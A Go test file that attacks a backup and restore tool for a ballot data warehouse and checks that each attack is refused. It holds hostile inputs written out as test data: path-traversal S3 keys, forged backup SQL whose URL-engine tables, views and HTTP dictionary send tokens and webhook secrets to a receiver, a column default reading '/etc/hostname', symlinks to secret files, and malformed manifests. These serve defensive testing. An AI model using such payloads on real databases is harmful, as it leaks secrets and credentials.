package backup_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/johannesboyne/gofakes3/backend/s3mem"

	"pnyx/test/env"
	"pnyx/warehouse"
	"pnyx/warehouse/backup"
)

// signingKey is a key of these tests.
const signingKey = "key-canary-0123456789-0123456789-abcdef"

// attackedStore runs an S3 store, and returns what is in it for an attacker to change.
func attackedStore(t *testing.T, o *backup.Options) *s3mem.Backend {
	t.Helper()
	o.Destination, o.Staging = "s3://bucket/pnyx", filepath.Join(t.TempDir(), "data", "staging")
	settings, memory := startS3(t)
	o.S3 = settings
	return memory
}

func putObject(t *testing.T, memory *s3mem.Backend, key string, content []byte) {
	t.Helper()
	header := map[string]string{"Last-Modified": time.Now().UTC().Format(http.TimeFormat)}
	env.Must(memory.PutObject("bucket", key, header, bytes.NewReader(content), int64(len(content)), nil))(t)
}

// TestAttackNamesOfABucketStayInTheStagingFolder adds an object beside what an incremental
// backup and a restore read.
func TestAttackNamesOfABucketStayInTheStagingFolder(t *testing.T) {
	s := newSource(t)
	s.vote("one", 50)
	o := s.to("")
	memory := attackedStore(t, &o)
	full := create(t, o)
	outside := filepath.Join(filepath.Dir(o.Staging), "outside")
	putObject(t, memory, "pnyx/"+full.Name+"/shard-1/.backup/../../../../outside", []byte("written by a stranger"))
	putObject(t, memory, "pnyx/"+full.Name+"/shard-1/../../../outside", []byte("written by a stranger"))
	for _, use := range []func() error{
		func() error { _, err := backup.Create(t.Context(), o); return err },
		func() error { _, err := backup.Verify(t.Context(), o, full.Name); return err },
		func() error {
			// As a version left it that made no list of files.
			full.Files = nil
			if err := backup.PutManifest(t.Context(), o, full); err != nil {
				return err
			}
			if _, err := backup.Verify(t.Context(), o, full.Name); err == nil || !strings.Contains(err.Error(), "not a name of a backup's file") {
				t.Errorf("without a list: got %v, want an error about the name", err)
			}
			return nil
		},
	} {
		env.WantError(t, nil, use())
		if text, err := os.ReadFile(outside); !errors.Is(err, fs.ErrNotExist) {
			t.Fatalf("got %q in %s, want nothing", text, outside)
		}
	}
}

// forge backs up a snapshot that an attacker has changed, with a manifest for it.
func forge(t *testing.T, s *source, o backup.Options, good backup.Manifest, change ...string) backup.Manifest {
	t.Helper()
	env.MustDo(t, s.archive.Snapshot(t.Context()))
	conn := env.ConnectWarehouse(t, s.o.URL)
	for _, statement := range change {
		if err := conn.Exec(t.Context(), strings.ReplaceAll(statement, "$", s.archive.SnapshotDatabase())); err != nil {
			t.Fatalf("%s: %v", statement, err)
		}
	}
	bad := good
	bad.Files, bad.Bytes = nil, 0
	contents := env.Must(s.archive.Contents(t.Context(), 0, s.archive.SnapshotDatabase()))(t)
	bad.Shards = [][]warehouse.TableContent{contents}
	at := filepath.Join(o.Destination, bad.Name, "shard-1")
	to := warehouse.Location{Path: at + "/"}
	env.MustDo(t, errors.Join(s.archive.Backup(t.Context(), 0, to, nil, func(context.Context) {}), s.archive.Drop(t.Context(), s.archive.SnapshotDatabase())))
	env.MustDo(t, filepath.WalkDir(at, func(_ string, entry fs.DirEntry, err error) error {
		if err == nil && !entry.IsDir() {
			info, infoErr := entry.Info()
			bad.Bytes, err = bad.Bytes+info.Size(), infoErr
		}
		return err
	}))
	env.MustDo(t, backup.PutManifest(t.Context(), o, bad))
	return bad
}

// TestAttackDefinitionsOfABackupAreNotRestored restores what an attacker with a server of the
// same kind can make of a backup that is not signed.
func TestAttackDefinitionsOfABackupAreNotRestored(t *testing.T) {
	var leaked askedPaths
	receiver := httptest.NewServer(&leaked)
	defer receiver.Close()
	s := newSource(t)
	s.vote("one", 5)
	good := create(t, s.to(t.TempDir()))
	empty := options(env.EmptyDatabaseURL(t))
	into := openArchive(t, empty)
	for name, change := range map[string][]string{
		"view that sends secrets away": {
			"CREATE TABLE $.evil (id String, secret String) ENGINE = URL('" + receiver.URL + "', JSONEachRow)",
			"CREATE MATERIALIZED VIEW $.evil_view TO $.evil AS SELECT endpoint_id AS id, toString(secret) AS secret FROM $.webhook_endpoints",
		},
		"view that runs by itself": {
			"CREATE TABLE $.evil (id String) ENGINE = URL('" + receiver.URL + "', JSONEachRow)",
			"CREATE MATERIALIZED VIEW $.evil_view REFRESH EVERY 1 SECOND TO $.evil AS SELECT token_id AS id FROM $.tokens",
		},
		"table of its own":    {"CREATE TABLE $.evil (id String) ENGINE = MergeTree ORDER BY id"},
		"dictionary":          {"CREATE DICTIONARY $.evil (id UInt64, v String) PRIMARY KEY id SOURCE(HTTP(URL '" + receiver.URL + "' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(1)"},
		"default of a column": {"ALTER TABLE $.tokens ADD COLUMN evil String DEFAULT file('/etc/hostname')"},
		"table of another name": {
			"RENAME TABLE $.tokens TO $.evil",
			"CREATE TABLE $.tokens AS $.evil ENGINE = ReplacingMergeTree ORDER BY tuple()",
			"DROP TABLE $.evil SYNC",
		},
		"table that is missing": {"DROP TABLE $.token_revocations SYNC"},
		"another setting":       {"ALTER TABLE $.tokens MODIFY SETTING ttl_only_drop_parts = 1"},
	} {
		t.Run(name, func(t *testing.T) {
			o := s.to(t.TempDir())
			bad := forge(t, s, o, good, change...)
			o.Archive = into
			if _, err := backup.Restore(t.Context(), o, bad.Name); err == nil {
				t.Error("got no error")
			} else if !strings.Contains(err.Error(), "of no table") && !errors.Is(err, warehouse.ErrDefinition) {
				t.Errorf("got %v, want an error about the tables", err)
			}
			conn := env.ConnectWarehouse(t, s.o.URL)
			database := o.Archive.Database()
			if found := env.Column(t, conn, "SELECT concat(database, '.', name) FROM system.tables WHERE startsWith(database, '"+database+"')"); len(found) > 0 {
				t.Errorf("got tables %q, want none", found)
			}
		})
	}
	if paths := leaked.paths(); len(paths) > 0 {
		t.Errorf("got requests for %q, want none", paths)
	}
}

// TestAttackChangedBackupIsRefused changes one file after the other of a signed backup.
func TestAttackChangedBackupIsRefused(t *testing.T) {
	s := newSource(t)
	s.vote("one", 50)
	original := t.TempDir()
	o := s.to(original)
	o.Keys = []string{signingKey}
	full := create(t, o)
	s.vote("two", 50)
	increment := create(t, o)
	if increment.Base != full.Name {
		t.Fatalf("got base %q, want %s", increment.Base, full.Name)
	}
	for name, change := range map[string]func(dir string) error{
		"manifest": func(dir string) error {
			return edit(filepath.Join(dir, "manifest.json"), func(text string) string { return strings.Replace(text, `"schema": `, `"schema":  `, 1) })
		},
		"signature": func(dir string) error { return os.Remove(filepath.Join(dir, "manifest.hmac")) },
		"no hash":   func(dir string) error { return os.WriteFile(filepath.Join(dir, "manifest.hmac"), nil, 0o600) },
		"list": func(dir string) error {
			return edit(filepath.Join(dir, "files.txt"), func(text string) string { return text + "\n" })
		},
		"no list": func(dir string) error { return os.Remove(filepath.Join(dir, "files.txt")) },
		"more files": func(dir string) error {
			return os.WriteFile(filepath.Join(dir, "shard-1", "metadata", "evil.sql"), []byte("x"), 0o600)
		},
		"list of the server": func(dir string) error {
			return edit(filepath.Join(dir, "shard-1", ".backup"), func(text string) string { return strings.Replace(text, "<uuid>", "<uuid> ", 1) })
		},
		"rows": func(dir string) error {
			return edit(dataFile(t, dir), func(text string) string { return text[:len(text)-1] + string(text[len(text)-1]^1) })
		},
		"longer rows": func(dir string) error {
			return edit(dataFile(t, dir), func(text string) string { return text + "more" })
		},
		"no rows": func(dir string) error { return os.Remove(dataFile(t, dir)) },
	} {
		for _, of := range []string{"the backup", "its base"} {
			t.Run(name+" of "+of, func(t *testing.T) {
				o := o
				o.Destination = t.TempDir()
				env.MustDo(t, os.CopyFS(o.Destination, os.DirFS(original)))
				changed := increment.Name
				if of == "its base" {
					changed = full.Name
				}
				env.MustDo(t, change(filepath.Join(o.Destination, changed)))
				if _, err := backup.Verify(t.Context(), o, increment.Name); err == nil {
					t.Error("got no error")
				}
			})
		}
	}
}

// dataFile returns a file with rows of ballots.
func dataFile(t *testing.T, dir string) string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(dir, "shard-1", "data", "*", "ballots", "*", "data.bin"))
	if err != nil || len(found) == 0 {
		t.Fatalf("no data of ballots: %v", err)
	}
	return found[0]
}

func edit(path string, change func(text string) string) error {
	text, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return os.WriteFile(path, []byte(change(string(text))), 0o600)
}

// TestAttackUnsignedBackups uses backups that are not signed with the key, or with another.
func TestAttackUnsignedBackups(t *testing.T) {
	s := newSource(t)
	s.vote("one", 5)
	o := s.to(t.TempDir())
	unsigned := create(t, o)
	with := func(keys ...string) backup.Options {
		keyed := o
		keyed.Keys = keys
		return keyed
	}
	if _, err := backup.Verify(t.Context(), with(signingKey), ""); !errors.Is(err, backup.ErrUnsigned) || !strings.Contains(err.Error(), "--unsigned") {
		t.Errorf("unsigned: got %v, want ErrUnsigned and what to do", err)
	}
	signed := create(t, with(signingKey))
	env.Want(t, "", signed.Base, "base of one that is not signed")
	if _, err := backup.Verify(t.Context(), with(signingKey+"2"), signed.Name); !errors.Is(err, backup.ErrUnsigned) {
		t.Errorf("signed with another key: got %v, want ErrUnsigned", err)
	}
	env.Want(t, signed.Name, create(t, with(signingKey+"2", signingKey)).Base, "after a rotation", "base")
	for _, keys := range [][]string{{signingKey + "2", signingKey}, nil} {
		if _, err := backup.Verify(t.Context(), with(keys...), ""); err != nil {
			t.Errorf("with %d keys: got %v, want it verified", len(keys), err)
		}
	}
	// A signed backup under another name.
	later := "20990101T000000Z"
	env.MustDo(t, os.CopyFS(filepath.Join(o.Destination, later), os.DirFS(filepath.Join(o.Destination, signed.Name))))
	if _, err := backup.Verify(t.Context(), with(signingKey), later); err == nil {
		t.Error("under another name: got no error")
	}
	// Neither that nor the unsigned one is counted or removed, and the next has its own time.
	keeping := with(signingKey+"2", signingKey)
	keeping.Keep, keeping.Full = 1, true
	last := create(t, keeping)
	entries := env.Must(backup.List(t.Context(), keeping))(t)
	var names []string
	for _, entry := range entries {
		names = append(names, entry.Name)
	}
	if want := []string{unsigned.Name, last.Name, later}; !slices.Equal(names, want) {
		t.Errorf("got %q, want %q", names, want)
	}
}

// TestAttackFilesThatAreNoneOfABackup leaves texts where manifests are, and puts links and a pipe where files of a
// backup are.
func TestAttackFilesThatAreNoneOfABackup(t *testing.T) {
	s := newSource(t)
	s.vote("one", 5)
	o := s.to(t.TempDir())
	for name, text := range map[string]string{
		"20260101T000000Z": "no JSON",
		"20260102T000000Z": strings.Repeat(" ", 5<<20) + "{}",
		"20260103T000000Z": `{"format":1,"name":"20260103T000000Z","base":"../../..","shards":[[]]}`,
		"20260104T000000Z": `{"format":1,"name":"20260104T000000Z","version":"\u001b[2J","shards":[[]]}`,
		"20260105T000000Z": `{"format":1,"name":"20260105T000000Z","shards":[[{"name":"x` + "`" + `"}]]}`,
		"20260106T000000Z": `{"format":1,"name":"20260106T000000Z","bytes":-1,"shards":[[]]}`,
		"20260107T000000Z": `{"format":1,"name":"20260107T000000Z","files":{"bytes":1e18},"shards":[[]]}`,
	} {
		env.WriteLines(t, filepath.Join(o.Destination, name, "manifest.json"), text)
	}
	made := create(t, o)
	entries, err := backup.List(t.Context(), o)
	if err != nil || len(entries) != 8 {
		t.Fatalf("got %v (%v), want 8", entries, err)
	}
	for _, entry := range entries[:7] {
		if entry.Problem == nil || entry.Manifest != nil {
			t.Errorf("%s: got %v, want a problem", entry.Name, entry.Manifest)
		}
		if _, err := backup.Verify(t.Context(), o, entry.Name); err == nil {
			t.Errorf("%s: got no error", entry.Name)
		}
	}
	env.Must(backup.Verify(t.Context(), o, ""))(t)

	secretFile := filepath.Join(t.TempDir(), "secret")
	env.WriteLines(t, secretFile, "of the machine")
	for name, replace := range map[string]func(path string) error{
		"link to a file":   func(path string) error { return os.Symlink(secretFile, path) },
		"link to a folder": func(path string) error { return os.Symlink(filepath.Dir(secretFile), path) },
		"pipe":             func(path string) error { return syscall.Mkfifo(path, 0o600) },
	} {
		for _, file := range []string{"manifest.json", "shard-1/.backup", "shard-1/metadata/more"} {
			other := s.to(t.TempDir())
			env.MustDo(t, os.CopyFS(filepath.Join(other.Destination, made.Name), os.DirFS(filepath.Join(o.Destination, made.Name))))
			path := filepath.Join(other.Destination, made.Name, file)
			if err := os.Remove(path); err != nil && !errors.Is(err, fs.ErrNotExist) {
				t.Fatal(err)
			}
			env.MustDo(t, replace(path))
			if _, err := backup.Verify(t.Context(), other, made.Name); err == nil || strings.Contains(err.Error(), "of the machine") {
				t.Errorf("%s %s: got %v, want an error without the content", name, file, err)
			}
		}
	}
}

// TestAttackStoreThatAnswersWithoutEnd asks stores that never stop answering.
func TestAttackStoreThatAnswersWithoutEnd(t *testing.T) {
	t.Parallel()
	page := func(keys string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			_, _ = fmt.Fprintf(w, `<ListBucketResult><IsTruncated>true</IsTruncated><NextContinuationToken>t</NextContinuationToken>%s</ListBucketResult>`, keys)
		}
	}
	full := strings.Repeat("<CommonPrefixes><Prefix>x/</Prefix></CommonPrefixes>", 1000)
	for name, test := range map[string]struct {
		answer http.HandlerFunc
		want   string
	}{
		"pages without names": {page(""), "no end"},
		"pages with names":    {page(full), "more than"},
		"one page": {func(w http.ResponseWriter, r *http.Request) {
			_, _ = io.WriteString(w, "<ListBucketResult><Name>")
			for r.Context().Err() == nil {
				if _, err := w.Write(bytes.Repeat([]byte("x"), 1<<16)); err != nil {
					return
				}
			}
		}, "answers with more than"},
		"one error": {func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			for r.Context().Err() == nil {
				if _, err := w.Write(bytes.Repeat([]byte(" "), 1<<16)); err != nil {
					return
				}
			}
		}, "answers with more than"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(test.answer)
			defer server.Close()
			_, err := backup.List(t.Context(), backup.Options{
				Destination: "s3://bucket/x", S3: backup.S3{KeyID: "a", Secret: secret, Region: "us-east-1", Endpoint: server.URL},
			})
			if err == nil || !strings.Contains(err.Error(), test.want) {
				t.Errorf("got %v, want %q", err, test.want)
			}
		})
	}
}
